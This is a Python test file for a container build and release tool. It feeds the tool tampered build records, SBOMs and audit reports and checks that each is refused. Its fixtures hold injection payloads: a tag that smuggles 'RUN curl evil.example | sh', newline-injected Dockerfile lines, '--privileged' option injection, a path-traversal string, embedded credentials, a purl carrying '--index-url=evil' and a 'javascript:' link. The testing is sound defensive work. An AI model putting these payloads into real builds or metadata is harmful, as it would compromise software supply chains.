"""Hostile files of build/R/: build/ may be another job's artifact. What a record says reaches Dockerfiles
(a derived image's FROM), command lines (docker tag, skopeo) and labels: each value of its type but not
of its form (workspace/sections.py) is refused as the record is read, one line naming the file and the
key, exit 2, nothing built, pushed or written, no credential echoed. The SBOM and the audit report are
read by their one typed reader each (workspace/sbom.py, workspace/audit_report.py): a document the
record does not name is refused (exit 2), one not of its shape is damaged (exit 1), never half shown."""

from __future__ import annotations

import hashlib
import json

from .hostile import SECRET, HostileCase, a_key, dev, no_file, record, setup_all

D64 = "sha256:" + "0" * 64
GOOD = {"release": "dev", "platform": "linux/amd64", "image_id": D64, "context_sha256": "0" * 64,
        "tags": ["nvcr.io/nvidia/pytorch:dev-py3"], "pushed": {}}


def a_record(**changes) -> str:
    return json.dumps({**GOOD, **changes})


# (name, the record's text, the key the message names)
HOSTILE_RECORDS = [
    ("tag-newline", a_record(tags=["nvcr.io/nvidia/pytorch:dev-py3\nRUN curl evil.example | sh"]), "tags.0"),
    ("tag-quote", a_record(tags=['nvcr.io/nvidia/pytorch:dev-py3" \\']), "tags.0"),
    ("image-id-newline", a_record(image_id=D64 + "\nFROM evil"), "image_id"),
    ("image-id-option", a_record(image_id="--privileged"), "image_id"),
    ("pushed-digest-quote", a_record(pushed={"127.0.0.1:5000/nvidia/pytorch:dev-py3": {"digest": D64 + '"'}}),
     "pushed.'127.0.0.1:5000/nvidia/pytorch:dev-py3'.digest"),
    ("pushed-ref-newline", a_record(pushed={"127.0.0.1:5000/nvidia/pytorch:dev-py3\nLABEL x=y": {"digest": D64}}),
     "pushed"),
    ("pushed-ref-credentials", a_record(pushed={f"u:{SECRET}@127.0.0.1:5000/nvidia/pytorch:dev-py3": {"digest": D64}}),
     "pushed"),
    ("base-image-newline", a_record(base_image="debian:bookworm\nRUN evil"), "base_image"),
    ("registry-path", a_record(registry="evil.example/x y"), "registry"),
    ("platform-option", a_record(platform="linux/amd64 --privileged"), "platform"),
    ("context-not-hex", a_record(context_sha256="../../etc/passwd"), "context_sha256"),
]


def record_value_cases(add) -> None:
    klass = "record values"
    keys = setup_all(a_key("keys/trusted.pub", public=True), a_key("keys/signing.key"))
    for name, text, key in HOSTILE_RECORDS:
        for argv in (("push", "--release", "dev", "--registry", "127.0.0.1:9"),
                     ("promote", "--release", "dev", "--from", "127.0.0.1:9", "--to", "127.0.0.1:8",
                      "--trusted-key", "keys/trusted.pub")):
            add(HostileCase(f"record-{name}-{argv[0]}", klass, argv, setup_all(dev, keys, record(text)),
                            mentions=("build/dev/record.json", f"{key}: expected "), absent=(SECRET, "\nRUN", "\nFROM")))
    # a record another step reads before it does anything
    for name, argv in [("smoke", ("smoke", "--release", "dev")), ("sbom", ("sbom", "--release", "dev")),
                       ("attest", ("attest", "--release", "dev", "--registry", "127.0.0.1:9",
                                   "--key", "keys/signing.key"))]:
        add(HostileCase(f"record-tag-newline-{name}", klass, argv, setup_all(dev, keys, record(HOSTILE_RECORDS[0][1])),
                        mentions=("build/dev/record.json", "tags.0: expected "), absent=("\nRUN",),
                        after=lambda project, outside: None if not (project.root / "build" / "dev" / "Dockerfile")
                        .exists() else "build/dev/ was rendered"))


AN_SBOM = {"bomFormat": "CycloneDX", "components": [
    {"bom-ref": "pypi:tqdm@4.70.1", "name": "tqdm", "version": "4.70.1", "purl": "pkg:pypi/tqdm@4.70.1"}],
    "metadata": {"component": {"properties": [{"name": "ngcbuild:image-id", "value": D64}]}}}
A_REPORT = {"verdict": "passed", "audited_at": "2026-01-01T00:00:00Z", "distributions": [],
            "counts": {"checked_by": {}, "python_distributions": 0, "checked": 0}}


def documents(sbom: dict | str, report: dict | None = None, recorded: bool = True):
    """build/dev/ with a record, an SBOM (and an audit report), the record naming each by its sha256."""
    def step(project, outside):
        directory = project.root / "build" / "dev"
        directory.mkdir(parents=True, exist_ok=True)
        text = sbom if isinstance(sbom, str) else json.dumps(sbom)
        (directory / "sbom.cdx.json").write_text(text)
        entry = {**GOOD, "sbom": {"sha256": hashlib.sha256(text.encode()).hexdigest() if recorded else "0" * 64,
                                  "image_id": D64}}
        if report is not None:
            body = json.dumps(report)
            (directory / "audit.json").write_text(body)
            entry["audit"] = {"sha256": hashlib.sha256(body.encode()).hexdigest(), "sbom_sha256": entry["sbom"]["sha256"]}
        (directory / "record.json").write_text(json.dumps(entry))
    return step


def with_property(name: str, value: str) -> dict:
    doc = json.loads(json.dumps(AN_SBOM))
    doc["metadata"]["component"]["properties"].append({"name": name, "value": value})
    return doc


def document_cases(add) -> None:
    klass = "build documents"
    diff = ("diff", "dev", "dev", "--images")
    for name, step, status, mentions in [
        ("sbom-not-the-recorded-one-diff", documents(AN_SBOM, recorded=False), 2,
         ("build/dev/sbom.cdx.json: not the SBOM `invoke sbom` recorded",)),
        ("sbom-image-id-injection-diff", documents(with_property("ngcbuild:image-id", D64 + "\nRUN x")), 1,
         ("sbom.cdx.json is damaged", "ngcbuild:image-id: expected sha256:")),
        ("sbom-platform-option-diff", documents(with_property("ngcbuild:platform", "--privileged")), 1,
         ("ngcbuild:platform: expected a platform",)),
        ("sbom-layer-not-numbers-diff", documents(with_property("ngcbuild:layer", "one big RUN x")), 1,
         ("metadata.component.properties.1", "POSITION SIZE STEP")),
        ("sbom-purl-injection-diff", documents({**AN_SBOM, "components": [
            {"name": "x", "version": "1", "purl": "pkg:pypi/x@1%0A--index-url%3Devil"}]}), 1,
         ("components.0.purl",)),
        ("sbom-properties-a-string-diff", documents({**AN_SBOM, "metadata": {"component": {"properties": "x"}}}), 1,
         ("metadata.component.properties",)),
    ]:
        add(HostileCase(name, klass, diff, setup_all(dev, step), exit_status=status, mentions=mentions,
                        absent=("\nRUN",)))
    notes = ("notes", "--release", "dev")
    for name, change, mention in [
        ("audit-counts-checked-a-string", {"counts": {**A_REPORT["counts"], "checked": "2"}}, "counts.checked"),
        ("audit-distributions-an-object", {"distributions": {"a": 1}}, "distributions"),
        ("audit-advisory-link-javascript", {"distributions": [{"name": "x", "version": "1", "status": "checked",
                                                               "advisories": [{"id": "A-1", "aliases": [], "fixed_in": [],
                                                                               "link": "javascript:alert(1)",
                                                                               "policy": "p"}]}]},
         "distributions.0.advisories.0.link"),
        ("audit-aliases-a-string", {"distributions": [{"name": "x", "version": "1", "status": "checked",
                                                       "advisories": [{"id": "A-1", "aliases": "CVE-1", "fixed_in": [],
                                                                       "link": "https://osv.dev/vulnerability/A-1",
                                                                       "policy": "p"}]}]},
         "distributions.0.advisories.0.aliases"),
    ]:
        add(HostileCase(name, klass, notes, setup_all(dev, documents(AN_SBOM, {**A_REPORT, **change})), exit_status=1,
                        mentions=("audit.json is damaged", mention), after=no_file("build/dev/release-notes.md")))
